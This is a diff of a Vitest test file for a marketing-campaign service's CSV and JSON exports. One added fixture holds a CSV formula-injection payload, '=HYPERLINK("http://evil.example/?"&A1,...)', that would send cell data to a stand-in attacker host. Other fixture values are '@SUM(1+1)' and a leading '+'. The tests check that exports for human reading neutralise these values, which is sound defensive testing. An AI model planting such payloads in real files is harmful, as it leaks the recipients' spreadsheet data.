@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { BACKENDS } from '../../../test/support/backends.ts';
+import { createAndSend } from '../../../test/support/campaigns.ts';
 import { expectProblem, type TestApp, testApp } from '../../../test/support/http.ts';
 import { changeObjection, changeRestriction, recordConsent, subjectStates } from '../../consent/consent.ts';
 import { decide } from '../../decide/decide.ts';
@@ -131,11 +132,11 @@ describe.each(BACKENDS)('campaigns on %s', (backend) => {
     expect(sent.sent).toBe(2);
     expect(sent.file).toBe(`outbound/${campaign.id}/postal-mail.csv`);
     const csv = await readFile(join(dir, sent.file), 'utf8');
-    expect(csv.split('\n')[0]).toBe(
-      '"subject_id","given_name","family_name","street","postal_code","city","country","content_ref"',
+    expect(csv.split('\r\n')[0]).toBe(
+      '\uFEFFsubject_id,given_name,family_name,street,postal_code,city,country,content_ref',
     );
-    expect(csv).toContain('"eligible","Test"');
-    expect(csv).not.toContain('"silent"');
+    expect(csv).toContain(`${ids.eligible},eligible,Test`);
+    expect(csv).not.toContain(`${ids.silent}`);
     const again = await t.app.inject({
       method: 'POST',
       url: `/v1/campaigns/${campaign.id}/send`,
@@ -175,5 +176,80 @@ describe.each(BACKENDS)('campaigns on %s', (backend) => {
     expect(await codes({ channel: 'website-banner', messageClass: 'banner' })).toEqual([
       'channel.requires_login',
     ]);
+  });
+
+  const legalNotice = { purpose: 'legal-information', messageClass: 'legal', contentRef: 'terms-2026' };
+  const sendNow = (body: object) =>
+    createAndSend(t, { name: 'Notice', audience: {}, ...proposal, ...legalNotice, ...body });
+
+  it('a class that does not count toward the cap is previewed and sent (BK-9)', async () => {
+    const created = (await create(legalNotice)).json();
+    const preview = await t.app.inject({
+      method: 'GET',
+      url: `/v1/campaigns/${created.id}/preview`,
+      headers: t.as('marketer'),
+    });
+    expect(preview.statusCode, preview.body).toBe(200);
+    expect(preview.json().suppressed['cap.reached']).toBeUndefined();
+    const sent = await sendNow({});
+    expect(sent.sent).toBeGreaterThan(0);
+  });
+
+  describe('files for people and files for machines', () => {
+    let tricky: string;
+    beforeAll(async () => {
+      const s = await createSubject(
+        t.deps,
+        {
+          lifecycle: 'customer',
+          customerSince: '2020-01-01',
+          identity: {
+            givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            familyName: '@SUM(1+1)',
+            phone: '+32 470 12 34 56',
+            email: '-zoe+tag@example.test',
+            language: 'fr',
+          },
+        },
+        'test',
+      );
+      tricky = s.id;
+    });
+
+    const trickyLine = async (file: string) => {
+      const text = await readFile(join(dir, file), 'utf8');
+      return { text, line: text.split('\r\n').find((l) => l.startsWith(tricky)) };
+    };
+
+    it('a call list opened in a spreadsheet runs no formula and reads as UTF-8', async () => {
+      const { file } = await sendNow({ channel: 'contact-center' });
+      expect(file).toMatch(/contact-center\.csv$/);
+      const { text, line } = await trickyLine(file);
+      expect(text.startsWith('\uFEFFsubject_id,given_name,family_name,phone,language,content_ref\r\n')).toBe(
+        true,
+      );
+      expect(line).toBe(
+        `${tricky},"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'+32 470 12 34 56,fr,terms-2026`,
+      );
+    });
+
+    it('every batch a person opens neutralises formulas: postal lists and phone lists too', async () => {
+      for (const channel of ['postal-mail', 'phone']) {
+        const { line } = await trickyLine((await sendNow({ channel })).file);
+        expect(line).toContain("'@SUM(1+1)");
+        expect(line).not.toMatch(/,[=+\-@]/);
+      }
+    });
+
+    it('a batch a program reads keeps values exactly (e-mail payloads)', async () => {
+      const { file } = await sendNow({ channel: 'email' });
+      expect(file).toMatch(/email\.json$/);
+      const rows = JSON.parse(await readFile(join(dir, file), 'utf8')) as Record<string, string>[];
+      expect(rows.find((r) => r.subject_id === tricky)).toMatchObject({
+        email: '-zoe+tag@example.test',
+        language: 'fr',
+        template: 'terms-2026',
+      });
+    });
   });
 });
